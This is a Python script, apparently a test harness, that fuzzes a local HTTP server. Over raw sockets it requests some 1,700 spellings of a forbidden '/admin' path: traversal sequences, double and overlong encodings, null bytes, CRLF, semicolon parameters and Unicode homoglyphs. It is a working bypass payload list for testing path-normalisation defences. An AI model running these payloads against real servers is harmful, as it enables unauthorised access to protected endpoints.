# SPDX-License-Identifier: Apache-2.0
"""Runs as an agent: asks for every spelling of a forbidden path, over raw sockets, and prints one
JSON object a line: the path, the status, the body. Argument: the port."""
import json
import socket
import sys

BEFORE = ("", "/", "/.", "/./.", "/x/..", "/x/%2e%2e", "/x/.%2e", "/x/%2E.", "/x/..;", "/x/..;a=b",
          "/x%2f..", "/x\\..", "/x%5c..", "/%2e", "/;", "/;a=b", "/x/y/../..", "/%252e%252e",
          "/x/%252e%252e", "/%c0%ae", "/x/%c0%ae%c0%ae", "/%e0%80%ae", "/x/..%00", "/x/..%09")
NAMES = ("/admin", "/ADMIN", "/Admin", "/%61dmin", "/adm%69n", "/%2561dmin", "%2fadmin", "%2Fadmin",
         "\\admin", "%5cadmin", "%252fadmin", "/admin;a=b", "/admin;", "/admin.", "/admin..",
         "/admin%00", "/admin%20", "/admin/", "/admin//", "/admin/.", "/admin/x/..", "/admin%2f",
         "/admin%3b", "/admin?x", "/admin%3fx", "/admin%23", "/%c1%a1dmin", "/admin/./x", "/ad%6din",
         "/\u0430dmin", "/admin%c2%a0", "/%u0061dmin", "/\uff41dmin", "/%ef%bd%81dmin", "/admin%0a",
         "/admin%0d%0a", "/admin%09", "/admin%5c", "/admin\\", "/admin%2e", "/admin%ff", "/admin%2500",
         "/admin%e2%80%8b", "/admin/..;/admin", "//admin//x/../", "/%2f/admin", "/.%2fadmin",
         "/admin%25", "/%2e/%2e/admin", "/admin/%2e", "/admin&x", "/admin,x", "/admin!", "/admin:80",
         "/adm\u0131n", "/adm%C4%B1n", "/admin%E2%80%A8", "/ad%C2%ADmin", "/\uff41\uff24min", "\uff0fadmin",
         "/\u2025/admin", "/\uff0e\uff0e/admin", "/admin\uff1bx", "/admin\ufeff", "/\u24d0dmin")


def answer(peer):
    data = b""
    while b"\r\n\r\n" not in data:
        piece = peer.recv(65536)
        if not piece:
            return 0, ""
        data += piece
    head, _, body = data.partition(b"\r\n\r\n")
    size = None
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.lower() == b"content-length":
            size = int(value)
    while size is None or len(body) < size:
        piece = peer.recv(65536)
        if not piece:
            break
        body += piece
    return int(head.split(b" ", 2)[1]), body.decode("utf8", "replace")


def ask(port, path):
    with socket.create_connection(("127.0.0.1", port), timeout=20) as peer:
        peer.sendall(b"GET " + path.encode() + b" HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n" % port +
                     b"Connection: close\r\n\r\n")
        return answer(peer)


if __name__ == "__main__":
    for path in [before + name for before in BEFORE for name in NAMES]:
        if not path.startswith("/"):
            path = "/x" + path
        status, body = ask(int(sys.argv[1]), path)
        print(json.dumps({"path": path, "status": status, "body": body[:100]}), flush=True)
